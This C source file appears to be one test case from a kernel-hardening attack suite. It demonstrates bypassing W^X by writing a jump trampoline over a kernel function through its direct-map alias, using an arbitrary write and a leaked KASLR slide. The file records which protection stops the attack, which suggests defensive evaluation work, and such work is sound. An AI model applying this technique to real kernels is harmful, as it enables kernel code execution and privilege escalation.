/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * The kernel's code by its other name: what cannot be written where it is executed may be writable in the direct map,
 * which has all of memory.
 */
#include "attacks.h"

static NOINLINE long tick(long value)
{
	return attack_opaque(value) + 2;
}

static bool benign(const struct attack *attack)
{
	return tick(2) == 4;
}

static void patch(const struct attack *attack, uintptr_t slide)
{
	uint8_t code[12] = { 0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xe0 }; /* movabs $goal, %rax; jmp *%rax */
	uint64_t goal = attack_linked_code(attack_goal) + slide;
	phys_t at = attack_linked_code(tick) - KERNEL_BASE; /* the memory it is loaded to does not change */

	memcpy(code + 2, &goal, sizeof(goal));
	attack_primitive(attack);
	attack_write(attack_direct_map(at), code, sizeof(code));
	tick(1);
}

static void run(const struct attack *attack)
{
	patch(attack, attack_leaked_slide());
}

ATTACK(code_alias, .family = "writing code", .primitive = ARBITRARY_WRITE, .knowledge = LAYOUT_LEAKED,
       .stopped_by = "wx", .about = "a jump is written over a function through the direct map", .run = run,
       .benign = benign);
